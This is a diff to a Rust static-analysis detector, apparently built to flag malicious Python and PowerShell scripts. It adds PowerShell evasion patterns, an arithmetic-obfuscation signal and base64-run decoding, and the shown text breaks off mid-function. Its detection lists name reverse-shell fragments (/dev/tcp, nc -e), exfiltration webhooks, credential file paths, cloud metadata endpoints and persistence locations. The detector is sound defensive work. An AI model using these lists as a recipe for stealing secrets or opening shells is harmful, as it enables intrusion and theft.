@@ -50,49 +50,458 @@ impl Default for Limits {
 /// Pattern groups searched (ASCII case-insensitively) in the script and every decoded layer.
 /// The group name is the dense signal name `g:<name>`.
 const GROUPS: &[(&str, &str, &[&str])] = &[
-    ("exec", "runs dynamically built code (exec/eval)", &["exec(", "eval(", "'exec'", "\"exec\"", "execfile(", "exec "]),
-    ("decode", "decodes encoded data (base64/hex/zlib/marshal)", &["b64decode", "b32decode", "b85decode", "a85decode", "unhexlify", "fromhex", "decompress(", "codecs.decode", "rot13", "rot_13", "marshal.loads", "decodebytes", "decodestring", "frombase64string"]),
-    ("socket", "opens a network socket", &["socket.socket", "socket(", "create_connection", ".connect((", "af_inet", "sock_stream"]),
-    ("dup2", "duplicates file descriptors onto stdio (dup2)", &["dup2("]),
-    ("shell", "spawns an interactive shell", &["pty.spawn", "/bin/sh", "/bin/bash", "bash -i", "sh -i", "cmd.exe", "/bin/zsh", "'-i'"]),
-    ("download", "downloads from the network", &["urlopen", "urlretrieve", "requests.get", "wget ", "curl ", "httpx.get", ".download(", "urllib.request", "urllib2", "downloadfile", "downloadstring", "invoke-webrequest"]),
-    ("chmod", "makes a file executable (chmod)", &["chmod", "0o755", "0o777", "0o700", "0755", "0777", "s_ixusr", "s_irwxu", "+x "]),
-    ("run", "runs external commands", &["subprocess", "os.system", "os.popen", "os.exec", "os.spawn", "popen(", "check_output", "check_call", "startfile", "shell=true"]),
-    ("metadata", "contacts the cloud instance-metadata service", &["169.254.169.254", "metadata.google.internal", "100.100.100.200", "fd00:ec2::254", "/computemetadata/", "/latest/meta-data", "/latest/api/token", "iam/security-credentials", "metadata/instance", "metadata/identity"]),
-    ("k8s_token", "reads the Kubernetes service-account token", &["/var/run/secrets/kubernetes.io", "/run/secrets/kubernetes.io", "serviceaccount/token", "/run/secrets/eks.amazonaws.com"]),
-    ("mining", "references cryptocurrency mining (pools, xmrig)", &["stratum+tcp", "stratum+ssl", "stratum2+", "stratum://", "xmrig", "minexmr", "nanopool", "supportxmr", "moneroocean", "2miners", "f2pool", "hashvault", "--donate-level", "cryptonight", "randomx", "nicehash", "ethminer", "cpuminer", "coinhive", "minergate", "--coin", "rx/0"]),
-    ("webhook", "talks to a webhook / paste / tunnel service used for exfiltration", &["discord.com/api/webhooks", "discordapp.com/api/webhooks", "hooks.slack.com", "api.telegram.org/bot", "webhook.site", "pipedream.net", "requestbin", "ngrok", "burpcollaborator", "oastify", "interact.sh", "interactsh", "oast.", "transfer.sh", "pastebin.com", "paste.ee", "hastebin", "requestcatcher", "beeceptor", "canarytokens", "dnslog", "ceye.io", "anonfiles", "file.io", "0x0.st", "termbin", "ptpb", "bashupload", "trycloudflare"]),
-    ("cron", "installs a cron job", &["crontab", "/etc/cron", "/var/spool/cron", "@reboot"]),
-    ("ssh_keys", "touches SSH authorized_keys", &["authorized_keys"]),
-    ("systemd", "installs a system service (systemd/init/rc.local)", &["/etc/systemd/system", "systemctl enable", "systemctl daemon-reload", "/etc/init.d", "rc.local", "[install]", "wantedby="]),
-    ("shellrc", "modifies shell start-up or preload files", &[".bashrc", ".bash_profile", ".zshrc", "ld.so.preload", "/etc/profile", "ld_preload"]),
-    ("creds", "reads credential or secret files", &[".aws/credentials", ".ssh/id_", "id_rsa", "id_ed25519", "/etc/shadow", ".docker/config.json", ".kube/config", ".git-credentials", ".netrc", "login data", "local state", "wallet", "keychain", ".pgpass", "cookies", "aws_secret_access_key", "application_default_credentials", ".npmrc", ".pypirc", "leveldb", "discord/local storage", "passwords", "/etc/passwd", "token"]),
-    ("environ", "collects environment variables", &["os.environ", "environ.items", "environ.copy", "printenv", "getenv("]),
-    ("send", "sends data out (HTTP POST / raw socket / mail)", &["requests.post", ".post(", "sendall(", ".send(", "http.client", "httpconnection", "smtplib", "ftplib", "method='post'", "method=\"post\"", "data=", "sendto("]),
-    ("pipe_shell", "builds a shell pipeline (curl|sh, /dev/tcp, nc -e, nohup)", &["| bash", "|bash", "| sh", "|sh", "/dev/tcp/", "nc -e", "ncat ", "mkfifo", "bash -c", "sh -c", "nohup ", "2>&1 &", ">/dev/null", "> /dev/null"]),
-    ("powershell", "builds a hidden/encoded PowerShell command", &["powershell", "-encodedcommand", "-enc ", "-windowstyle hidden", "-w hidden", "invoke-expression", "iex(", "iex (", "start-process", "-executionpolicy", "bypass"]),
-    ("memfd", "executes from memory (memfd_create / fexecve)", &["memfd_create", "/proc/self/fd", "fexecve", "/proc/self/exe"]),
-    ("tmpdrop", "writes into temporary or hidden locations", &["/tmp/", "/dev/shm", "/var/tmp", "gettempdir", "%temp%", "appdata", "/tmp/."]),
-    ("detach", "detaches or hides the process", &["setsid", "os.fork", "fork()", "prctl", "disown", "creationflags", "create_no_window", "detached_process", "startupinfo", "daemon=true", "start_new_session"]),
-    ("setup", "is a package setup script", &["setup(", "setuptools", "distutils"]),
-    ("install_hook", "overrides install/develop/egg_info commands", &["cmdclass", "install.run", "(install)", "(develop)", "(egg_info)", "(build_py)", "def run(self"]),
-    ("builtins", "reaches builtins indirectly (__import__/getattr/globals)", &["__builtins__", "__import__", "getattr(", "globals()", "import_module", "__dict__["]),
-    ("sysinfo", "collects host identity (user, hostname, public IP)", &["platform.node", "getpass.getuser", "gethostname", "os.getlogin", "uname", "whoami", "ipinfo.io", "ifconfig.me", "api.ipify", "checkip", "icanhazip"]),
-    ("kill_av", "tampers with security tools or history", &["history -c", "bash_history", "unset histfile", "setenforce 0", "iptables -f", "ufw disable", "apparmor", "kill -9", "pkill"]),
+    (
+        "exec",
+        "runs dynamically built code (exec/eval)",
+        &["exec(", "eval(", "'exec'", "\"exec\"", "execfile(", "exec "],
+    ),
+    (
+        "decode",
+        "decodes encoded data (base64/hex/zlib/marshal)",
+        &[
+            "b64decode",
+            "b32decode",
+            "b85decode",
+            "a85decode",
+            "unhexlify",
+            "fromhex",
+            "decompress(",
+            "codecs.decode",
+            "rot13",
+            "rot_13",
+            "marshal.loads",
+            "decodebytes",
+            "decodestring",
+            "frombase64string",
+        ],
+    ),
+    (
+        "socket",
+        "opens a network socket",
+        &[
+            "socket.socket",
+            "socket(",
+            "create_connection",
+            ".connect((",
+            "af_inet",
+            "sock_stream",
+        ],
+    ),
+    (
+        "dup2",
+        "duplicates file descriptors onto stdio (dup2)",
+        &["dup2("],
+    ),
+    (
+        "shell",
+        "spawns an interactive shell",
+        &[
+            "pty.spawn",
+            "/bin/sh",
+            "/bin/bash",
+            "bash -i",
+            "sh -i",
+            "cmd.exe",
+            "/bin/zsh",
+            "'-i'",
+        ],
+    ),
+    (
+        "download",
+        "downloads from the network",
+        &[
+            "urlopen",
+            "urlretrieve",
+            "requests.get",
+            "wget ",
+            "curl ",
+            "httpx.get",
+            ".download(",
+            "urllib.request",
+            "urllib2",
+            "downloadfile",
+            "downloadstring",
+            "invoke-webrequest",
+        ],
+    ),
+    (
+        "chmod",
+        "makes a file executable (chmod)",
+        &[
+            "chmod", "0o755", "0o777", "0o700", "0755", "0777", "s_ixusr", "s_irwxu", "+x ",
+        ],
+    ),
+    (
+        "run",
+        "runs external commands",
+        &[
+            "subprocess",
+            "os.system",
+            "os.popen",
+            "os.exec",
+            "os.spawn",
+            "popen(",
+            "check_output",
+            "check_call",
+            "startfile",
+            "shell=true",
+        ],
+    ),
+    (
+        "metadata",
+        "contacts the cloud instance-metadata service",
+        &[
+            "169.254.169.254",
+            "metadata.google.internal",
+            "100.100.100.200",
+            "fd00:ec2::254",
+            "/computemetadata/",
+            "/latest/meta-data",
+            "/latest/api/token",
+            "iam/security-credentials",
+            "metadata/instance",
+            "metadata/identity",
+        ],
+    ),
+    (
+        "k8s_token",
+        "reads the Kubernetes service-account token",
+        &[
+            "/var/run/secrets/kubernetes.io",
+            "/run/secrets/kubernetes.io",
+            "serviceaccount/token",
+            "/run/secrets/eks.amazonaws.com",
+        ],
+    ),
+    (
+        "mining",
+        "references cryptocurrency mining (pools, xmrig)",
+        &[
+            "stratum+tcp",
+            "stratum+ssl",
+            "stratum2+",
+            "stratum://",
+            "xmrig",
+            "minexmr",
+            "nanopool",
+            "supportxmr",
+            "moneroocean",
+            "2miners",
+            "f2pool",
+            "hashvault",
+            "--donate-level",
+            "cryptonight",
+            "randomx",
+            "nicehash",
+            "ethminer",
+            "cpuminer",
+            "coinhive",
+            "minergate",
+            "--coin",
+            "rx/0",
+        ],
+    ),
+    (
+        "webhook",
+        "talks to a webhook / paste / tunnel service used for exfiltration",
+        &[
+            "discord.com/api/webhooks",
+            "discordapp.com/api/webhooks",
+            "hooks.slack.com",
+            "api.telegram.org/bot",
+            "webhook.site",
+            "pipedream.net",
+            "requestbin",
+            "ngrok",
+            "burpcollaborator",
+            "oastify",
+            "interact.sh",
+            "interactsh",
+            "oast.",
+            "transfer.sh",
+            "pastebin.com",
+            "paste.ee",
+            "hastebin",
+            "requestcatcher",
+            "beeceptor",
+            "canarytokens",
+            "dnslog",
+            "ceye.io",
+            "anonfiles",
+            "file.io",
+            "0x0.st",
+            "termbin",
+            "ptpb",
+            "bashupload",
+            "trycloudflare",
+        ],
+    ),
+    (
+        "cron",
+        "installs a cron job",
+        &["crontab", "/etc/cron", "/var/spool/cron", "@reboot"],
+    ),
+    (
+        "ssh_keys",
+        "touches SSH authorized_keys",
+        &["authorized_keys"],
+    ),
+    (
+        "systemd",
+        "installs a system service (systemd/init/rc.local)",
+        &[
+            "/etc/systemd/system",
+            "systemctl enable",
+            "systemctl daemon-reload",
+            "/etc/init.d",
+            "rc.local",
+            "[install]",
+            "wantedby=",
+        ],
+    ),
+    (
+        "shellrc",
+        "modifies shell start-up or preload files",
+        &[
+            ".bashrc",
+            ".bash_profile",
+            ".zshrc",
+            "ld.so.preload",
+            "/etc/profile",
+            "ld_preload",
+        ],
+    ),
+    (
+        "creds",
+        "reads credential or secret files",
+        &[
+            ".aws/credentials",
+            ".ssh/id_",
+            "id_rsa",
+            "id_ed25519",
+            "/etc/shadow",
+            ".docker/config.json",
+            ".kube/config",
+            ".git-credentials",
+            ".netrc",
+            "login data",
+            "local state",
+            "wallet",
+            "keychain",
+            ".pgpass",
+            "cookies",
+            "aws_secret_access_key",
+            "application_default_credentials",
+            ".npmrc",
+            ".pypirc",
+            "leveldb",
+            "discord/local storage",
+            "passwords",
+            "/etc/passwd",
+            "token",
+        ],
+    ),
+    (
+        "environ",
+        "collects environment variables",
+        &[
+            "os.environ",
+            "environ.items",
+            "environ.copy",
+            "printenv",
+            "getenv(",
+        ],
+    ),
+    (
+        "send",
+        "sends data out (HTTP POST / raw socket / mail)",
+        &[
+            "requests.post",
+            ".post(",
+            "sendall(",
+            ".send(",
+            "http.client",
+            "httpconnection",
+            "smtplib",
+            "ftplib",
+            "method='post'",
+            "method=\"post\"",
+            "data=",
+            "sendto(",
+        ],
+    ),
+    (
+        "pipe_shell",
+        "builds a shell pipeline (curl|sh, /dev/tcp, nc -e, nohup)",
+        &[
+            "| bash",
+            "|bash",
+            "| sh",
+            "|sh",
+            "/dev/tcp/",
+            "nc -e",
+            "ncat ",
+            "mkfifo",
+            "bash -c",
+            "sh -c",
+            "nohup ",
+            "2>&1 &",
+            ">/dev/null",
+            "> /dev/null",
+        ],
+    ),
+    ("powershell", "runs PowerShell", &["powershell", "pwsh"]),
+    (
+        "ps_evasive",
+        "hidden/encoded PowerShell or download cradle",
+        &[
+            "-encodedcommand",
+            "-enc ",
+            "-e jab",
+            "-windowstyle hidden",
+            "-w hidden",
+            "-nop -w",
+            "invoke-expression",
+            "iex(",
+            "iex (",
+            "start-process",
+            "-executionpolicy bypass",
+            "-ep bypass",
+            "downloadstring",
+            "downloadfile",
+            "invoke-webrequest",
+            "net.webclient",
+            "-outfile",
+        ],
+    ),
+    (
+        "memfd",
+        "executes from memory (memfd_create / fexecve)",
+        &["memfd_create", "/proc/self/fd", "fexecve", "/proc/self/exe"],
+    ),
+    (
+        "tmpdrop",
+        "writes into temporary or hidden locations",
+        &[
+            "/tmp/",
+            "/dev/shm",
+            "/var/tmp",
+            "gettempdir",
+            "%temp%",
+            "appdata",
+            "/tmp/.",
+        ],
+    ),
+    (
+        "detach",
+        "detaches or hides the process",
+        &[
+            "setsid",
+            "os.fork",
+            "fork()",
+            "prctl",
+            "disown",
+            "creationflags",
+            "create_no_window",
+            "detached_process",
+            "startupinfo",
+            "daemon=true",
+            "start_new_session",
+        ],
+    ),
+    (
+        "setup",
+        "is a package setup script",
+        &["setup(", "setuptools", "distutils"],
+    ),
+    (
+        "install_hook",
+        "overrides install/develop/egg_info commands",
+        &[
+            "cmdclass",
+            "install.run",
+            "(install)",
+            "(develop)",
+            "(egg_info)",
+            "(build_py)",
+            "def run(self",
+        ],
+    ),
+    (
+        "builtins",
+        "reaches builtins indirectly (__builtins__/__import__/globals()[...])",
+        &[
+            "__builtins__",
+            "__import__",
+            "globals()[",
+            "__dict__[",
+            "vars(__",
+        ],
+    ),
+    (
+        "sysinfo",
+        "collects host identity (user, hostname, public IP)",
+        &[
+            "platform.node",
+            "getpass.getuser",
+            "gethostname",
+            "os.getlogin",
+            "uname",
+            "whoami",
+            "ipinfo.io",
+            "ifconfig.me",
+            "api.ipify",
+            "checkip",
+            "icanhazip",
+        ],
+    ),
+    (
+        "kill_av",
+        "tampers with security tools or history",
+        &[
+            "history -c",
+            "bash_history",
+            "unset histfile",
+            "setenforce 0",
+            "iptables -f",
+            "ufw disable",
+            "apparmor",
+            "kill -9",
+            "pkill",
+        ],
+    ),
 ];
 
 /// Dense signals derived from group combinations and literal statistics.
 const COMBOS: &[(&str, &str)] = &[
     ("c:exec_decoded", "executes decoded/obfuscated data"),
     ("c:layer_code", "an encoded layer hides code or commands"),
-    ("c:layer_any", "contains an encoded layer that decodes to text"),
-    ("c:revshell", "socket wired to a shell (reverse/bind shell pattern)"),
-    ("c:dl_chmod_exec", "downloads, marks executable and runs a file"),
+    (
+        "c:layer_any",
+        "contains an encoded layer that decodes to text",
+    ),
+    (
+        "c:revshell",
+        "socket wired to a shell (reverse/bind shell pattern)",
+    ),
+    (
+        "c:dl_chmod_exec",
+        "downloads, marks executable and runs a file",
+    ),
     ("c:env_exfil", "sends environment variables out"),
     ("c:cred_exfil", "reads credentials and sends data out"),
-    ("c:meta_send", "queries instance metadata and sends data out"),
-    ("c:setup_hook_net", "setup script with install hook that uses network/commands"),
-    ("c:setup_exec", "setup script that runs commands or decoded code"),
+    (
+        "c:meta_send",
+        "queries instance metadata and sends data out",
+    ),
+    (
+        "c:setup_hook_net",
+        "setup script with install hook that uses network/commands",
+    ),
+    (
+        "c:setup_exec",
+        "setup script that runs commands or decoded code",
+    ),
     ("c:persist_run", "installs persistence and runs commands"),
     ("c:detached_run", "runs a detached background command"),
     ("s:layers", "number of decoded layers"),
@@ -101,9 +510,16 @@ const COMBOS: &[(&str, &str)] = &[
     ("s:long_literal", "very long encoded literal"),
     ("s:frac_encoded", "most of the script is encoded data"),
     ("s:chr_calls", "many chr() calls building strings"),
-    ("s:obf_idents", "obfuscated identifiers (O0O0/lIlI/_0x style)"),
+    (
+        "s:obf_idents",
+        "obfuscated identifiers (O0O0/lIlI/_0x style)",
+    ),
     ("s:ip_host", "hard-coded IP address as a network peer"),
     ("s:ints_layer", "integer lists decode to text"),
+    (
+        "s:arith_obf",
+        "dense shift/arithmetic expressions (computed character codes)",
+    ),
 ];
 
 /// Number of dense signals.
@@ -302,6 +718,8 @@ struct Acc<'w> {
     idents: usize,
     obf_idents: usize,
     ip_host: bool,
+    tokens: usize,
+    shifts: usize,
 }
 
 impl Acc<'_> {
@@ -336,9 +754,27 @@ impl Acc<'_> {
 }
 
 const SUSPICIOUS_IN_LAYER: &[&str] = &[
-    "exec", "socket", "dup2", "shell", "download", "run", "metadata", "k8s_token", "mining",
-    "webhook", "cron", "ssh_keys", "systemd", "creds", "send", "pipe_shell", "powershell", "memfd",
-    "builtins", "decode",
+    "exec",
+    "socket",
+    "dup2",
+    "shell",
+    "download",
+    "run",
+    "metadata",
+    "k8s_token",
+    "mining",
+    "webhook",
+    "cron",
+    "ssh_keys",
+    "systemd",
+    "creds",
+    "send",
+    "pipe_shell",
+    "powershell",
+    "ps_evasive",
+    "memfd",
+    "builtins",
+    "decode",
 ];
 
 fn lower_into(buf: &mut Vec<u8>, s: &[u8]) {
@@ -350,7 +786,9 @@ fn looks_obfuscated_ident(s: &[u8]) -> bool {
     if s.len() < 6 {
         return false;
     }
-    let confusable = s.iter().all(|&c| matches!(c, b'I' | b'l' | b'1' | b'O' | b'0' | b'_' | b'o'));
+    let confusable = s
+        .iter()
+        .all(|&c| matches!(c, b'I' | b'l' | b'1' | b'O' | b'0' | b'_' | b'o'));
     let hexish = s.starts_with(b"_0x") || s.starts_with(b"__0x");
     confusable || hexish
 }
@@ -437,6 +875,8 @@ impl Extractor {
             idents: 0,
             obf_idents: 0,
             ip_host: false,
+            tokens: 0,
+            shifts: 0,
         };
         let mut queue: VecDeque<Pending> = VecDeque::new();
         let mut layers = 0usize;
@@ -492,17 +932,56 @@ impl Extractor {
         let g = |n: &str| acc.groups & (1u64 << group(n)) != 0;
         let b = |x: bool| if x { 1.0 } else { 0.0 };
         let set = |d: &mut [f32; N_SIGNALS], n: &str, v: f32| d[combo(n)] = v.clamp(0.0, 1.0);
-        set(&mut dense, "c:exec_decoded", b(g("exec") && (g("decode") || acc.layer_any)));
+        set(
+            &mut dense,
+            "c:exec_decoded",
+            b(g("exec") && (g("decode") || acc.layer_any)),
+        );
         set(&mut dense, "c:layer_code", b(acc.layer_code));
         set(&mut dense, "c:layer_any", b(acc.layer_any));
-        set(&mut dense, "c:revshell", b(g("socket") && (g("dup2") || g("shell")) && (g("run") || g("dup2") || g("shell"))));
-        set(&mut dense, "c:dl_chmod_exec", b(g("download") && g("chmod") && (g("run") || g("exec"))));
-        set(&mut dense, "c:env_exfil", b(g("environ") && (g("send") || g("webhook"))));
-        set(&mut dense, "c:cred_exfil", b(g("creds") && (g("send") || g("webhook"))));
-        set(&mut dense, "c:meta_send", b((g("metadata") || g("k8s_token")) && (g("send") || g("webhook") || g("socket"))));
-        set(&mut dense, "c:setup_hook_net", b(g("setup") && g("install_hook") && (g("download") || g("send") || g("run") || g("socket"))));
-        set(&mut dense, "c:setup_exec", b(g("setup") && (g("exec") || g("powershell") || g("pipe_shell"))));
-        set(&mut dense, "c:persist_run", b((g("cron") || g("systemd") || g("ssh_keys") || g("shellrc")) && (g("run") || g("download"))));
+        set(
+            &mut dense,
+            "c:revshell",
+            b(g("socket") && (g("dup2") || g("shell")) && (g("run") || g("dup2") || g("shell"))),
+        );
+        set(
+            &mut dense,
+            "c:dl_chmod_exec",
+            b(g("download") && g("chmod") && (g("run") || g("exec"))),
+        );
+        set(
+            &mut dense,
+            "c:env_exfil",
+            b(g("environ") && (g("send") || g("webhook"))),
+        );
+        set(
+            &mut dense,
+            "c:cred_exfil",
+            b(g("creds") && (g("send") || g("webhook"))),
+        );
+        set(
+            &mut dense,
+            "c:meta_send",
+            b((g("metadata") || g("k8s_token")) && (g("send") || g("webhook") || g("socket"))),
+        );
+        set(
+            &mut dense,
+            "c:setup_hook_net",
+            b(g("setup")
+                && g("install_hook")
+                && (g("download") || g("send") || g("run") || g("socket"))),
+        );
+        set(
+            &mut dense,
+            "c:setup_exec",
+            b(g("setup") && (g("exec") || g("ps_evasive") || g("pipe_shell"))),
+        );
+        set(
+            &mut dense,
+            "c:persist_run",
+            b((g("cron") || g("systemd") || g("ssh_keys") || g("shellrc"))
+                && (g("run") || g("download"))),
+        );
         set(&mut dense, "c:detached_run", b(g("detach") && g("run")));
         set(&mut dense, "s:layers", layers as f32 / 4.0);
         set(&mut dense, "s:depth", max_depth as f32 / 3.0);
@@ -517,7 +996,11 @@ impl Extractor {
             },
         );
         let n = bytes.len().min(lim.max_input).max(1);
-        set(&mut dense, "s:frac_encoded", acc.encoded_bytes as f32 / n as f32);
+        set(
+            &mut dense,
+            "s:frac_encoded",
+            acc.encoded_bytes as f32 / n as f32,
+        );
         set(&mut dense, "s:chr_calls", acc.chr_calls as f32 / 50.0);
         set(
             &mut dense,
@@ -530,6 +1013,15 @@ impl Extractor {
         );
         set(&mut dense, "s:ip_host", b(acc.ip_host));
         set(&mut dense, "s:ints_layer", b(acc.ints_layer));
+        set(
+            &mut dense,
+            "s:arith_obf",
+            if acc.tokens >= 50 {
+                acc.shifts as f32 / acc.tokens as f32 * 20.0
+            } else {
+                0.0
+            },
+        );
 
         // Sparse part: log counts, L2-normalized.
         let mut ev = std::mem::take(&mut acc.events);
@@ -589,6 +1081,16 @@ impl Extractor {
             }
         }
         let toks: Vec<Tok> = Lexer::new(text).collect();
+        acc.tokens += toks.len();
+        acc.shifts += toks
+            .windows(2)
+            .filter(|w| {
+                matches!(
+                    w,
+                    [Tok::Op(b'<'), Tok::Op(b'<')] | [Tok::Op(b'>'), Tok::Op(b'>')]
+                )
+            })
+            .count();
         let mut low = Vec::with_capacity(64);
         let mut low2 = Vec::with_capacity(64);
         let mut prev_call: Vec<u8> = Vec::new();
@@ -598,24 +1100,36 @@ impl Extractor {
         let mut str_buf: Vec<u8> = Vec::new();
         let mut str_open = false;
         let mut str_is_bytes = false;
-        let flush_codes = |buf: &mut Vec<u8>, acc: &mut Acc, found: &mut dyn FnMut(Vec<u8>, u32, LayerKind, &mut Acc)| {
-            if buf.len() >= 8 && decode::printable_ratio(buf) >= 0.85 {
-                found(std::mem::take(buf), depth + 1, LayerKind::CharCodes, acc);
-            }
-            buf.clear();
-        };
+        let flush_codes =
+            |buf: &mut Vec<u8>,
+             acc: &mut Acc,
+             found: &mut dyn FnMut(Vec<u8>, u32, LayerKind, &mut Acc)| {
+                if buf.len() >= 8 && decode::printable_ratio(buf) >= 0.85 {
+                    found(std::mem::take(buf), depth + 1, LayerKind::CharCodes, acc);
+                }
+                buf.clear();
+            };
         let mut i = 0;
         while i < toks.len() {
             let tok = &toks[i];
             // String concatenation: 'a' 'b' or 'a' + 'b'.
             let is_str = matches!(tok, Tok::Str { .. });
             let is_plus = matches!(tok, Tok::Op(b'+'));
-            if str_open && !is_str && !(is_plus && matches!(toks.get(i + 1), Some(Tok::Str { .. }))) {
+            if str_open && !is_str && !(is_plus && matches!(toks.get(i + 1), Some(Tok::Str { .. })))
+            {
                 self.string(&str_buf, str_is_bytes, depth, acc, found);
                 str_buf.clear();
                 str_open = false;
             }
-            if !matches!(tok, Tok::Num(_) | Tok::Op(b',') | Tok::Op(b'[') | Tok::Op(b']') | Tok::Op(b'(') | Tok::Op(b')')) {
+            if !matches!(
+                tok,
+                Tok::Num(_)
+                    | Tok::Op(b',')
+                    | Tok::Op(b'[')
+                    | Tok::Op(b']')
+                    | Tok::Op(b'(')
+                    | Tok::Op(b')')
+            ) {
                 flush_codes(&mut int_buf, acc, found);
             }
             match tok {
@@ -627,16 +1141,41 @@ impl Extractor {
                     str_is_bytes = *bytes;
                     str_open = true;
                 }
-                Tok::Op(c) => {
-                    match c {
-                        b'(' | b'[' | b'{' => paren += 1,
-                        b')' | b']' | b'}' => paren = (paren - 1).max(0),
-                        _ => {}
+                Tok::Op(b'[')
+                    if matches!(toks.get(i + 1), Some(Tok::Num(_) | Tok::Op(b'(' | b'-'))) =>
+                {
+                    paren += 1;
+                    if let Some((vals, end)) = const_int_list(&toks, i) {
+                        if vals.len() >= 8 {
+                            let mut out = Vec::with_capacity(vals.len());
+                            for v in vals {
+                                if let Some(ch) = u32::try_from(v).ok().and_then(char::from_u32) {
+                                    let mut b4 = [0u8; 4];
+                                    out.extend_from_slice(ch.encode_utf8(&mut b4).as_bytes());
+                                }
+                            }
+                            if out.len() >= 8 && decode::printable_ratio(&out) >= 0.85 {
+                                found(out, depth + 1, LayerKind::CharCodes, acc);
+                            }
+                            paren -= 1;
+                            i = end + 1;
+                            continue;
+                        }
                     }
                 }
+                Tok::Op(c) => match c {
+                    b'(' | b'[' | b'{' => paren += 1,
+                    b')' | b']' | b'}' => paren = (paren - 1).max(0),
+                    _ => {}
+                },
                 Tok::Num(n) => {
                     if let Some(v) = parse_int(n) {
-                        if v < 256 && matches!(toks.get(i.wrapping_sub(1)), Some(Tok::Op(b',' | b'[' | b'('))) {
+                        if v < 256
+                            && matches!(
+                                toks.get(i.wrapping_sub(1)),
+                                Some(Tok::Op(b',' | b'[' | b'('))
+                            )
+                        {
                             int_buf.push(v as u8);
                         }
                     }
@@ -661,7 +1200,9 @@ impl Extractor {
                     // Dotted chain a.b.c
                     let mut j = i;
                     let mut parts: Vec<&[u8]> = vec![id];
-                    while let (Some(Tok::Op(b'.')), Some(Tok::Ident(n))) = (toks.get(j + 1), toks.get(j + 2)) {
+                    while let (Some(Tok::Op(b'.')), Some(Tok::Ident(n))) =
+                        (toks.get(j + 1), toks.get(j + 2))
+                    {
                         parts.push(n);
                         j += 2;
                         if parts.len() > 8 {
@@ -710,7 +1251,11 @@ impl Extractor {
                         }
                     }
                     let last2: Vec<u8> = {
-                        let s = if parts.len() >= 2 { &parts[parts.len() - 2..] } else { &parts[..] };
+                        let s = if parts.len() >= 2 {
+                            &parts[parts.len() - 2..]
+                        } else {
+                            &parts[..]
+                        };
                         let mut v = Vec::new();
                         for (n, p) in s.iter().enumerate() {
                             if n > 0 {
@@ -731,7 +1276,9 @@ impl Extractor {
                             }
                             prev_call = last2;
                         }
-                        (Some(Tok::Op(b'=')), nxt, _) if paren > 0 && !matches!(nxt, Some(Tok::Op(b'='))) => {
+                        (Some(Tok::Op(b'=')), nxt, _)
+                            if paren > 0 && !matches!(nxt, Some(Tok::Op(b'='))) =>
+                        {
                             lower_into(&mut low, parts[parts.len() - 1]);
                             acc.emit("kw", &[&low]);
                             if let Some(Tok::Ident(v)) = nxt {
@@ -779,13 +1326,42 @@ impl Extractor {
                 acc.emit("enc", &[format!("len2^{bucket}").as_bytes()]);
                 if let Some((d, k)) = decode::decode_literal(s, self.limits.max_decoded) {
                     found(d, depth + 1, k, acc);
+                    return;
                 }
-                return;
+            }
+            // Encoded runs inside longer strings (`powershell -enc <base64>`, `echo <b64> | base64 -d`).
+            let mut runs = 0;
+            let mut k = 0;
+            while !enc && k < s.len() && runs < 8 {
+                if decode::is_b64_char(s[k]) {
+                    let st = k;
+                    while k < s.len() && decode::is_b64_char(s[k]) {
+                        k += 1;
+                    }
+                    while k < s.len() && s[k] == b'=' {
+                        k += 1;
+                    }
+                    if k - st >= 40 {
+                        runs += 1;
+                        let run = &s[st..k];
+                        acc.longest_encoded = acc.longest_encoded.max(run.len());
+                        acc.encoded_bytes += run.len();
+                        if let Some((d, kind)) =
+                            decode::decode_literal(run, self.limits.max_decoded)
+                        {
+                            found(d, depth + 1, kind, acc);
+                        }
+                    }
+                } else {
+                    k += 1;
+                }
             }
             // Text that contains code (escaped code, exec strings): analyse as a layer too.
             if depth < self.limits.max_depth
                 && s.len() >= 32
-                && (memchr_sub(s, b"import ") || memchr_sub(s, b"exec(") || memchr_sub(s, b"__import__"))
+                && (memchr_sub(s, b"import ")
+                    || memchr_sub(s, b"exec(")
+                    || memchr_sub(s, b"__import__"))
             {
                 found(s.to_vec(), depth + 1, LayerKind::Escapes, acc);
             }
@@ -831,7 +1407,9 @@ impl Extractor {
             acc.emit("str", &[b"ipv4"]);
         }
         if s.first() == Some(&b'/') || s.starts_with(b"~/") {
-            let comp_end = s[2..]
+            let comp_end = s
+                .get(2..)
+                .unwrap_or_default()
                 .iter()
                 .position(|&c| c == b'/' || c == b' ')
                 .map_or(s.len(), |x| x + 2);
@@ -856,6 +1434,185 @@ impl Extractor {
                 lower_into(&mut low, w);
                 acc.emit("s", &[&low]);
             }
+        }
+    }
+}
+
+/// Parses `[e1, e2, ...]` starting at `toks[start] == '['` where every element is a constant
+/// integer expression (numbers, `+ - * // % << >> | & ^ ~`, parentheses). Returns the values and
+/// the index of the closing `]`. Bounded: at most 100k elements, nesting depth 32.
+fn const_int_list(toks: &[Tok], start: usize) -> Option<(Vec<i64>, usize)> {
+    let mut vals = Vec::new();
+    let mut p = start + 1;
+    loop {
+        if vals.len() > 100_000 {
+            return None;
+        }
+        let mut ev = ConstEval {
+            toks,
+            pos: p,
+            depth: 0,
+        };
+        let v = ev.or()?;
+        vals.push(v);
+        p = ev.pos;
+        match toks.get(p) {
+            Some(Tok::Op(b',')) => {
+                p += 1;
+                if matches!(toks.get(p), Some(Tok::Op(b']'))) {
+                    return Some((vals, p));
+                }
+            }
+            Some(Tok::Op(b']')) => return Some((vals, p)),
+            _ => return None,
+        }
+    }
+}
+
+struct ConstEval<'t, 'a> {
+    toks: &'t [Tok<'a>],
+    pos: usize,
+    depth: u32,
+}
+
+impl ConstEval<'_, '_> {
+    fn op(&self, k: usize) -> Option<u8> {
+        match self.toks.get(self.pos + k) {
+            Some(Tok::Op(c)) => Some(*c),
+            _ => None,
+        }
+    }
+    fn or(&mut self) -> Option<i64> {
+        self.depth += 1;
+        if self.depth > 32 {
+            return None;
+        }
+        let mut v = self.xor()?;
+        while self.op(0) == Some(b'|') {
+            self.pos += 1;
+            v |= self.xor()?;
+        }
+        self.depth -= 1;
+        Some(v)
+    }
+    fn xor(&mut self) -> Option<i64> {
+        let mut v = self.and()?;
+        while self.op(0) == Some(b'^') {
+            self.pos += 1;
+            v ^= self.and()?;
+        }
+        Some(v)
+    }
+    fn and(&mut self) -> Option<i64> {
+        let mut v = self.shift()?;
+        while self.op(0) == Some(b'&') {
+            self.pos += 1;
+            v &= self.shift()?;
+        }
+        Some(v)
+    }
+    fn shift(&mut self) -> Option<i64> {
+        let mut v = self.add()?;
+        loop {
+            match (self.op(0), self.op(1)) {
+                (Some(b'<'), Some(b'<')) => {
+                    self.pos += 2;
+                    let r = self.add()?;
+                    v = if (0..48).contains(&r) {
